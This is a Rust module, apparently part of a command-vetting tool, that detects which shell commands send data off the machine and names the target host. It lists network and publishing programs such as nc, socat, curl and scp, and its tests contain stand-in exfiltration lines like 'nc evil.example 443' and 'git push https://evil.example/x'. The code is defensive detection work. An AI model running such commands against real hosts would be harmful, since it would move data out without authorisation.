//! What a command sends out of the machine, as far as its words say: which
//! programs reach out, and which hosts they are told to reach.

use crate::{CommandFacts, Started, Token, is_this_machine};

/// How a command reaches out.
#[derive(Clone, Copy, Debug, Eq, Ord, PartialEq, PartialOrd)]
pub enum Way {
    /// It fetches what others keep, as package managers do: the hosts are
    /// those of its settings.
    Fetches,
    /// It reaches a host that it is told.
    Reaches,
    /// It puts something where others see it.
    Publishes,
}

/// One program of a command that reaches out.
#[derive(Clone, Debug, Eq, PartialEq)]
pub struct Outward<'a> {
    /// The program, without its directory.
    pub program: &'a str,
    /// How.
    pub way: Way,
    /// The host, where its words say which: never this machine.
    pub host: Option<String>,
}

impl CommandFacts {
    /// Everything in the command that reaches out for all that is known. What
    /// is opaque may reach out, too, and is not here.
    pub fn outward(&self) -> Vec<Outward<'_>> {
        self.starts.iter().filter_map(outward).collect()
    }
}

/// Programs that are told what to reach.
const REACHING: &[&str] = &[
    "aria2c",
    "axel",
    "curl",
    "curlie",
    "dig",
    "ftp",
    "hey",
    "host",
    "http",
    "https",
    "httpie",
    "lftp",
    "lynx",
    "mosh",
    "nc",
    "ncat",
    "netcat",
    "nmap",
    "nslookup",
    "openssl",
    "ping",
    "rclone",
    "rsync",
    "scp",
    "sftp",
    "smbclient",
    "socat",
    "ssh",
    "telnet",
    "tftp",
    "traceroute",
    "w3m",
    "wget",
    "whois",
    "xh",
];

/// Programs that act on what others see, whatever they are told.
const PUBLISHING: &[&str] = &[
    "aws",
    "az",
    "doctl",
    "eb",
    "fly",
    "flyctl",
    "gcloud",
    "gh",
    "glab",
    "gsutil",
    "heroku",
    "helm",
    "kubectl",
    "mail",
    "mailx",
    "mutt",
    "netlify",
    "oc",
    "sendmail",
    "swaks",
    "terraform",
    "tofu",
    "twine",
    "vercel",
    "wrangler",
];

/// Words by which other programs fetch, or publish, by program.
const BY_WORD: &[(&str, &[&str], &[&str])] = &[
    (
        "git",
        &["clone", "fetch", "ls-remote", "pull", "submodule"],
        &["push", "send-email"],
    ),
    (
        "npm",
        &[
            "add", "ci", "exec", "i", "install", "outdated", "update", "view",
        ],
        &["publish", "unpublish", "deprecate", "dist-tag"],
    ),
    (
        "pnpm",
        &["add", "dlx", "i", "install", "update"],
        &["publish"],
    ),
    ("yarn", &["add", "dlx", "install", "up"], &["publish"]),
    ("bun", &["add", "i", "install", "update", "x"], &["publish"]),
    ("pip", &["download", "install"], &[]),
    ("pip3", &["download", "install"], &[]),
    ("uv", &["add", "pip", "sync", "tool"], &["publish"]),
    ("poetry", &["add", "install", "update"], &["publish"]),
    (
        "cargo",
        &["add", "fetch", "install", "search", "update"],
        &["publish", "yank", "login", "owner"],
    ),
    ("go", &["get", "install"], &[]),
    ("gem", &["install", "update"], &["push", "yank"]),
    ("bundle", &["install", "update"], &[]),
    ("mvn", &[], &["deploy"]),
    ("dotnet", &["restore"], &["nuget"]),
    ("docker", &["pull"], &["push", "login"]),
    ("podman", &["pull"], &["push", "login"]),
    ("apt", &["install", "update", "upgrade"], &[]),
    ("apt-get", &["install", "update", "upgrade"], &[]),
    ("apk", &["add", "update"], &[]),
    ("brew", &["install", "update", "upgrade"], &[]),
    ("npx", &[""], &[]),
    ("uvx", &[""], &[]),
];

fn outward(start: &Started) -> Option<Outward<'_>> {
    let Token::Known(program) = start.words.first()? else {
        return None;
    };
    let program = program.rsplit('/').next().unwrap_or(program);
    let words = || start.words.iter().skip(1);
    let way = if REACHING.contains(&program) {
        Way::Reaches
    } else if PUBLISHING.contains(&program) {
        Way::Publishes
    } else {
        let (_, fetch, publish) = BY_WORD.iter().find(|(name, ..)| *name == program)?;
        let says = |list: &[&str]| {
            let mut words = words();
            list.contains(&"")
                || words
                    .any(|word| matches!(word, Token::Known(word) if list.contains(&word.as_str())))
        };
        if says(publish) {
            Way::Publishes
        } else if says(fetch) {
            Way::Fetches
        } else {
            return None;
        }
    };
    if stays(program, &start.words) {
        return None;
    }
    let hosts: Vec<String> = words().filter_map(|word| host(program, word)).collect();
    // Only this machine is named: nothing leaves it.
    let names_all = way == Way::Reaches || program == "git";
    let is_local = names_all && !hosts.is_empty() && hosts.iter().all(|host| is_this_machine(host));
    (!is_local).then(|| Outward {
        program,
        way,
        host: hosts.into_iter().find(|host| !is_this_machine(host)),
    })
}

/// What of `openssl` reaches a host.
const OPENSSL: &[&str] = &["cmp", "ocsp", "s_client", "s_server", "s_time", "tsget"];

/// Whether a program that may reach out is told not to.
fn stays(program: &str, words: &[Token]) -> bool {
    match program {
        "openssl" => {
            let reaches = |word: &Token| match word {
                Token::Known(word) => OPENSSL.contains(&word.as_str()),
                Token::Unknown { .. } => true,
            };
            !words.iter().skip(1).any(reaches)
        }
        // All that it does goes to this one address.
        "aws" => endpoint(words)
            .and_then(|address| host("curl", &Token::Known(address.to_owned())))
            .is_some_and(|host| is_this_machine(&host)),
        _ => false,
    }
}

/// The last `--endpoint-url`, where it is known.
fn endpoint(words: &[Token]) -> Option<&str> {
    const OPTION: &str = "--endpoint-url";
    let known = |word: &'_ Token| matches!(word, Token::Known(_));
    if !words.iter().all(known) {
        return None;
    }
    let mut words = words.iter().filter_map(|word| match word {
        Token::Known(word) => Some(word.as_str()),
        Token::Unknown { .. } => None,
    });
    let mut last = None;
    while let Some(word) = words.next() {
        match word.strip_prefix(OPTION) {
            Some("") => last = words.next(),
            Some(rest) => last = rest.strip_prefix('=').or(last),
            None => {}
        }
    }
    last
}

/// A file of this machine by its address, spelled plainly.
fn is_local_file(text: &str) -> bool {
    let rest = text.strip_prefix("file://");
    let rest = rest.map(|rest| rest.strip_prefix("localhost").unwrap_or(rest));
    rest.is_some_and(|rest| rest.starts_with('/') && !rest.contains(['%', '{', '[', '\\']))
}

/// The host that a word names.
fn host(program: &str, word: &Token) -> Option<String> {
    let text = match word {
        Token::Known(text) => text.as_str(),
        // The host of an address that goes on is known where its end is.
        Token::Unknown { prefix, .. } => {
            let (_, rest) = prefix.split_once("://")?;
            rest.contains('/').then_some(prefix)?
        }
    };
    if is_local_file(text) {
        return Some("localhost".to_owned());
    }
    let rest = match text.split_once("://") {
        Some((scheme, rest))
            if !scheme.is_empty()
                && scheme
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c)) =>
        {
            rest
        }
        _ if text.starts_with('-') => return None,
        _ => match program {
            "ssh" | "mosh" | "sftp" | "telnet" | "nc" | "ncat" | "netcat" | "ping" => bare(text)?,
            "scp" | "rsync" | "git" => remote(text)?,
            "curl" | "wget" | "http" | "https" | "xh" => {
                let name = text.split(['/', '?']).next()?;
                is_this_machine(name.rsplit_once(':').map_or(name, |(name, _)| name))
                    .then_some(name)?
            }
            _ => return None,
        },
    };
    let authority = rest.split(['/', '?', '#']).next()?;
    let host = authority
        .rsplit_once('@')
        .map_or(authority, |(_, host)| host);
    let host = match host.strip_prefix('[') {
        Some(rest) => rest.split(']').next()?,
        None => host.split(':').next()?,
    };
    (!host.is_empty()).then(|| host.to_ascii_lowercase())
}

/// A host by itself, with or without a user before it.
fn bare(text: &str) -> Option<&str> {
    let name = text.rsplit_once('@').map_or(text, |(_, name)| name);
    let is_name = |c: char| c.is_ascii_alphanumeric() || "-.".contains(c);
    let is_host = name.contains('.') || is_this_machine(name) || text.contains('@');
    (is_host && !name.is_empty() && name.chars().all(is_name)).then_some(name)
}

/// The host of `user@host:path`.
fn remote(text: &str) -> Option<&str> {
    let (before, _) = text.split_once(':')?;
    (!before.contains('/') && !before.is_empty()).then_some(before)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn of(line: &str) -> Option<(Way, String)> {
        let words = line.split(' ').map(|word| Token::Known(word.to_owned()));
        let start = Started {
            words: words.collect(),
            class: crate::CommandClass::Ordinary,
            decided_by: 1,
            carries: false,
        };
        outward(&start).map(|found| (found.way, found.host.unwrap_or_default()))
    }

    #[test]
    fn what_reaches_out_is_known_with_its_host() {
        use Way::{Fetches, Publishes, Reaches};
        for (line, way, host) in [
            ("curl -s https://example.com/x?y", Reaches, "example.com"),
            (
                "/usr/bin/curl -d @x http://u:p@Example.com:8080",
                Reaches,
                "example.com",
            ),
            ("curl $x", Reaches, ""),
            ("ssh -p 22 me@host.example ls", Reaches, "host.example"),
            ("scp x me@host.example:/y", Reaches, "host.example"),
            ("nc evil.example 443", Reaches, "evil.example"),
            ("git clone git@github.com:a/b.git", Fetches, "github.com"),
            ("git -C x push origin main", Publishes, ""),
            ("git push https://evil.example/x", Publishes, "evil.example"),
            ("npm install", Fetches, ""),
            ("npm publish", Publishes, ""),
            ("npx cowsay", Fetches, ""),
            ("gh pr create", Publishes, ""),
            ("curl http://[2001:db8::1]/", Reaches, "2001:db8::1"),
            ("openssl s_client -connect evil.example:443", Reaches, ""),
            ("aws s3 ls", Publishes, ""),
            (
                "aws --endpoint-url https://s3.evil.example s3 ls",
                Publishes,
                "s3.evil.example",
            ),
            (
                "aws --endpoint-url http://localhost:1 s3 ls --endpoint-url https://x.example",
                Publishes,
                "x.example",
            ),
            (
                "curl file:///x https://evil.example/",
                Reaches,
                "evil.example",
            ),
            ("curl file:///%2e/x", Reaches, ""),
            (
                "git push file:///x https://evil.example/x",
                Publishes,
                "evil.example",
            ),
        ] {
            assert_eq!(of(line), Some((way, host.to_owned())), "{line}");
        }
    }

    #[test]
    fn what_stays_here_does_not_reach_out() {
        for line in [
            "curl -s http://localhost:3000/health",
            "curl 127.0.0.1:8080",
            "ssh localhost",
            "git status",
            "npm test",
            "cargo build",
            "ls https://example.com",
            "openssl version",
            "openssl dgst -sha256 x",
            "aws --endpoint-url http://localhost:4566 s3 ls s3://bucket",
            "aws s3 ls --endpoint-url=http://127.0.0.1:9000",
            "curl -s file:///srv/x.json",
            "git clone file:///srv/x.git",
        ] {
            assert_eq!(of(line), None, "{line}");
        }
    }
}
